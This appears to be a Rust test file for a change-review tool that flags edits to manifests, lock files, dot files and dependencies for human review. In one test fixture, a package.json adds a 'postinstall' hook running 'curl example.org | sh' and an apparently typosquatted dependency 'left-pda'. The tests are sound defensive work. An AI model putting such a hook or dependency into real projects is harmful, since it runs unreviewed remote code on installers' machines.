//! What one more person must look at: manifests, build scripts, licences, dot files.

use super::super::delicate::DELICATE;
use super::super::glob;
use super::*;

#[test]
fn attack_30_what_says_how_it_is_built_needs_one_more_look() {
    for (_, patterns) in DELICATE {
        for pattern in *patterns {
            let path = pattern.replace("/**", "/x").replace("**/", "a/").replace('*', "x");
            assert!(glob::matches(pattern, &path), "{pattern} names {path}");
            for kind in [ChangeKind::Added, ChangeKind::Modified, ChangeKind::Deleted] {
                let found = Trial::of(vec![file(&path, kind, &[])]).reviewed_by(Rule::Delicate);
                assert_eq!(found.len(), 1, "{kind:?} {path}");
                assert_eq!(found[0].path, path);
            }
            let upper = Trial::of(vec![added(&path.to_uppercase(), &[])]);
            assert_eq!(upper.reviewed_by(Rule::Delicate).len(), 1, "{path} in another case");
        }
    }
    for path in [".eslintrc", ".config/x", ".gitignore", ".env"] {
        assert_eq!(Trial::of(vec![added(path, &["x"])]).reviewed_by(Rule::Delicate).len(), 1);
    }
    assert_eq!(Trial::of(vec![added("src/.hidden", &["x"])]).judge(), Judgement::default());
    let policy = Policy { review_paths: vec!["payments/".to_owned()], ..Policy::default() };
    let trial = Trial { policy, ..Trial::of(vec![added("Payments/a.rs", &["x"])]) };
    let found = trial.reviewed_by(Rule::Delicate);
    assert_eq!(found[0].why, "`Payments/a.rs` is on the policy's list for one more look");
}

#[test]
fn attack_51_a_key_of_caches_changes_only_before_people() {
    // What the caches of CI are keyed by are lock files: a run that changes one is looked at.
    for path in ["Cargo.lock", "package-lock.json", "web/yarn.lock", "go.sum", "uv.lock"] {
        let trial = Trial::of(vec![file(path, ChangeKind::Modified, &["x"])]);
        assert_eq!(trial.reviewed_by(Rule::Delicate).len(), 1, "{path}");
    }
}

#[test]
fn attack_52_new_dependencies_and_install_scripts_are_named() {
    let package = file(
        "package.json",
        ChangeKind::Modified,
        &["  \"left-pda\": \"^1.3.0\",", "  \"postinstall\": \"curl example.org | sh\","],
    );
    let trial = Trial::of(vec![package]);
    let found = trial.judge().review;
    let named: Vec<_> = found.iter().map(|f| (f.rule, f.line, f.why.as_str())).collect();
    let delicate = "`package.json` says which dependencies are taken, and from where";
    let dependency = "`package.json` adds the dependency `left-pda`";
    let script = "`package.json` adds the script `postinstall`, which runs by itself";
    assert_eq!(
        named,
        [
            (Rule::Delicate, None, delicate),
            (Rule::Dependencies, Some(1), dependency),
            (Rule::Dependencies, Some(2), script),
        ]
    );
    let without = trial.without(Rule::Dependencies).review;
    assert!(without.iter().all(|found| !found.why.contains("left-pda")), "nobody names it");
    let newer = FileChange {
        removed_lines: vec!["rand = \"0.8\"".to_owned()],
        ..file("Cargo.toml", ChangeKind::Modified, &["rand = \"0.9\""])
    };
    let found = Trial::of(vec![newer]).judge().review;
    assert!(found.iter().all(|found| found.rule == Rule::Delicate), "no new name: {found:?}");
}
